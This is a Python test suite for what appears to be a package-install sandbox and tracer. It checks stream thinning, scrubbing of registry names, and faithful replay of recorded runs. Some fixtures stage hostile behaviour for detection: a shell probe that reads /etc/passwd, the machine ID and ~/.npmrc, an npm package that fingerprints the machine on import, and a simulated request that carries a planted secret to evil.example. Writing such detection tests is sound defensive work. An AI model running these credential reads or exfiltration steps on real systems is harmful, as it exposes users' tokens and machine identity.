# SPDX-License-Identifier: Apache-2.0
"""Recorded runs: smaller, without the registries' names, and still judged as the live run was."""

from __future__ import annotations

import lzma
import zlib
from base64 import b64encode
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import frames
import hosts
import lines
import recording
from fpbox.errors import WireError
from fpbox.recipes import Baseline
from fpbox.settings import Settings
from fpbox.trace import records, wire
from fpbox.trace.calls import CALLS, table_checksum
from frames import KIND
from gateway import HOST, Gateway
from pack import pack, unpack
from thin import renewed, thin

HERE = Path(__file__).resolve().parent
RECORDED = sorted(HERE.rglob("*.xz"))
LIBRARY = b"/usr/lib/node_modules/npm/lib/%d.js"
SECOND_NS = 1_000_000_000


def stream(*looked: tuple[bytes, int], output: bytes = b"") -> bytes:
    """A whole stream in which one program opens files at given times (ns)."""
    made = frames.hello() + frames.string(1, b"/bin/x") + frames.string(2, b"/home/dev")
    made += frames.string(3, b"/bin/x\0") + frames.image(1)
    names: dict[bytes, int] = {}
    for path, _ in looked:
        if path not in names:
            names[path] = 4 + len(names)
            made += frames.string(names[path], path)
    for seq, (path, ns) in enumerate(looked, 1):
        fields = list(records.EVENT.unpack(frames.opening(seq, names[path])))
        fields[1] = ns
        made += frames.frame(KIND.EVENTS, records.EVENT.pack(*fields))
    if output:
        made += frames.frame(KIND.OUTPUT, b"\x01" + output)
    return made + frames.whole_end(made, len(looked))


def opened(made: bytes) -> Counter[bytes]:
    """How often each file was opened, by a stream; raises WireError when it does not add up."""
    decoder, seen = wire.Decoder(), Counter()
    for record in decoder.feed(made):
        if isinstance(record, wire.Events):
            for event in records.EVENT.iter_unpack(record.payload):
                seen[decoder.strings[event[8]]] += event[2]
    decoder.close()
    return seen


def test_what_is_repeated_at_once_becomes_one_event_with_its_count():
    made = stream(*[(b"/etc/passwd", n) for n in range(50)], (b"/etc/passwd", 2 * SECOND_NS))
    thinned = thin(made)
    assert opened(thinned) == {b"/etc/passwd": 51}
    assert thinned.count(frames.string(4, b"/etc/passwd")) == 1
    assert len(thinned) < len(made) - 45 * records.EVENT.size


def test_of_a_librarys_many_files_a_few_stay_and_of_other_places_all():
    many = [(LIBRARY % n, n) for n in range(40)] + [(b"/home/dev/%d.js" % n, n) for n in range(40)]
    kept = opened(thin(stream(*many)))
    assert 0 < len([path for path in kept if path.startswith(b"/usr")]) < 10
    assert len([path for path in kept if path.startswith(b"/home")]) == 40


@pytest.mark.parametrize("name", [b".npmrc", b"x.pth", b"PKG-INFO", b".git/config"])
def test_what_a_recipe_may_want_of_a_library_stays(name):
    many = [(b"/usr/lib/python3/%d" % n, n) for n in range(40)]
    assert b"/usr/lib/python3/" + name in opened(thin(stream(*many, (b"/usr/lib/python3/" + name, 50))))


def test_the_commands_output_is_left_out():
    assert b"hello" not in thin(stream((b"/etc/passwd", 1), output=b"hello"))


def test_a_cut_stream_is_refused():
    with pytest.raises(WireError):
        thin(stream((b"/etc/passwd", 1))[:-10])


def with_table(made: bytes, table: int) -> bytes:
    """The same stream, of a tracer that has a table of another checksum."""
    at = records.HEADER.size + 12
    body = made[:at] + table.to_bytes(4, "little") + made[at + 4 : -4]
    return body + zlib.crc32(body).to_bytes(4, "little")


def test_a_stream_of_a_table_that_was_shorter_is_read_as_one_of_todays():
    made = thin(stream((b"/etc/passwd", 1)))
    older = with_table(made, table_checksum(len(CALLS) - 3))
    with pytest.raises(WireError, match="another table"):
        opened(older)
    assert renewed(older) == made
    assert renewed(made) == made


def test_a_stream_of_another_table_is_left_alone_and_refused():
    made = with_table(thin(stream((b"/etc/passwd", 1))), 77)
    assert renewed(made) == made
    with pytest.raises(WireError, match="another table"):
        opened(renewed(made))


@given(st.lists(st.tuples(st.sampled_from([b"/a", b"/b/c", b"/d"]), st.integers(0, 1 << 62)), min_size=1))
def test_what_is_packed_comes_back_as_it_was(looked):
    thinned = thin(stream(*looked))
    assert unpack(pack(thinned)) == thinned


@given(st.binary(max_size=400))
def test_what_was_never_packed_is_a_wire_error_or_nothing_that_decodes(data):
    try:
        made = unpack(data)
    except WireError:
        return
    assert made == b"" or len(made) >= records.HEADER.size


def test_registries_names_are_replaced_in_paths_and_in_queries():
    names = hosts.Names(["npm.corp.invalid", "files.corp.invalid"])
    assert names.allowed == {"registry.example", "files.example"}
    assert names(b"https://NPM.corp.invalid/left-pad") == b"https://registry.example/left-pad"
    asked = b"\x12\x34" + hosts.query("files.corp.invalid") + b"\0\0\1\0\1"
    assert names(asked) == b"\x12\x34" + hosts.query("files.example") + b"\0\0\1\0\1"


def test_a_registry_that_is_not_allowed_does_not_become_one_that_is():
    names = hosts.Names(["npm.corp.invalid"])
    usual = b"registry." + b"somewhere" + b".org"
    assert names(usual) == b"other-registry.example"
    assert hosts.found(usual)
    assert not hosts.found(names(usual))


def test_this_machine_names_its_registries():
    assert hosts.known()


def test_no_registry_is_in_what_was_sent_however_it_is_encoded():
    for path in (one for one in RECORDED if one.name.endswith(recording.SUFFIX)):
        assert lines.found(recording.load(path).gateway or "") == [], path.name


def test_no_registry_and_no_path_of_the_recording_machine_is_in_what_is_committed():
    for path in RECORDED:
        data = lzma.decompress(path.read_bytes())
        assert hosts.found(data) == [], path.name
        assert str(HERE.parents[1]).encode() not in data, path.name


@pytest.mark.docker
def test_a_recorded_run_is_judged_as_the_live_one_was(tmp_path, monkeypatch):
    monkeypatch.setattr(recording, "CONTROLS", tmp_path)
    script = 'cat /etc/machine-id /proc/version /etc/passwd; getent hosts x.invalid; cat "$HOME/.npmrc"'
    settings = Settings(command=("sh", "-c", script), linger_s=0.5, network="none")
    made, live = recording.record_with_report(settings, "probe", {"kept": [1]}, lambda _: None)
    made.save(tmp_path / "probe.rec.xz")
    again = recording.load(tmp_path / "probe.rec.xz")
    assert again == made
    replayed = recording.replay(again)
    assert view(replayed) == view(live)
    assert replayed.verdict == live.verdict
    assert replayed.coverage.calls == live.coverage.calls
    assert [one.findings for one in live.packages] != [()]


@pytest.mark.docker
def test_a_recorded_import_is_judged_as_the_live_one_was(tmp_path, monkeypatch):
    monkeypatch.setattr(recording, "CONTROLS", tmp_path)
    project = tmp_path / "project"
    (project / "nosy").mkdir(parents=True)
    look = "require('fs').readFileSync('/etc/machine-id')"
    (project / "nosy" / "package.json").write_text('{"name": "nosy", "version": "1.0.0"}')
    (project / "nosy" / "index.js").write_text(look)
    (project / "package.json").write_text('{"name": "app", "private": true}')
    settings = Settings(
        command=("npm", "install", "--install-links", "./nosy"),
        project=project,
        network="none",
        linger_s=0.5,
        imports=True,
    )
    made, live = recording.record_with_report(settings, "nosy", {}, lambda _: None)
    made.save(tmp_path / "nosy.rec.xz")
    again = recording.load(tmp_path / "nosy.rec.xz")
    assert again == made
    replayed = recording.replay(again)
    assert view(replayed) == view(live)
    seen = {one.package.name: (one.phases, {found.recipe for found in one.findings}) for one in live.packages}
    assert seen["nosy"][0] == ("import",)
    assert "machine_fingerprint" in seen["nosy"][1]


def view(report):
    return [
        (one.package, one.score, one.phases, sorted((found.recipe, found.count) for found in one.findings))
        for one in report.packages
    ]


def test_a_control_run_is_written_once(tmp_path):
    baseline = recording.Baseline()
    path = tmp_path / "npm.json.xz"
    recording.save_control(path, baseline)
    written = path.stat().st_mtime_ns
    recording.save_control(path, baseline)
    assert path.stat().st_mtime_ns == written
    assert recording.load_control(path).to_json() == baseline.to_json()


def test_a_control_run_is_written_without_the_names_of_registries(tmp_path):
    recording.save_control(tmp_path / "npm.json.xz", recording.Baseline(["npm.corp.invalid"]))
    assert recording.load_control(tmp_path / "npm.json.xz").hosts == {"registry.example"}


def test_a_recording_tells_who_made_it_and_whether_its_tracer_was_an_older_one(tmp_path: Path) -> None:
    made = thin(stream((b"/etc/passwd", 1)))
    about = {"purl": "pkg:npm/x@1.0.0"}
    today = recording.Recording(
        "x", ("npm",), "fpbox/npm", "sha256:0", "npm", "deep", frozenset(), 0, "", (made,), {}, about=about
    )
    older = replace(today, streams=(made, with_table(made, table_checksum(len(CALLS) - 3))))
    for one, is_older in ((today, False), (older, True)):
        one.save(tmp_path / "x.rec.xz")
        assert recording.about(tmp_path / "x.rec.xz") == about
        assert recording.is_older(tmp_path / "x.rec.xz") is is_older
        assert set(recording.load(tmp_path / "x.rec.xz").streams) == {made}


def test_a_sealed_run_is_kept_with_its_gateways_lines_and_judged_by_them(tmp_path: Path) -> None:
    gateway = Gateway().ready()
    gateway.request(1.2, gateway.flow(1.0, "evil.example"), "evil.example", body=HOST.value)
    made = frames.hello()
    made += frames.whole_end(made, 0)
    planted = ((HOST.kind, b64encode(HOST.value).decode(), HOST.where),)
    plain = recording.Recording(
        "x", ("npm", "install"), "fpbox/npm", "sha256:0", "npm", "deep", frozenset(), 0, "", (made,), {}
    )
    sealed = replace(plain, gateway=gateway.data.decode(), planted=planted)
    sealed.save(tmp_path / "x.rec.xz")
    kept = recording.load(tmp_path / "x.rec.xz")
    assert (kept.gateway, kept.planted) == (sealed.gateway, sealed.planted)
    (found,) = recording.replay(kept, baseline=Baseline()).packages
    assert [one.value for finding in found.findings for one in finding.thefts] == [HOST.value.decode()]
    assert not recording.replay(plain, baseline=Baseline()).packages
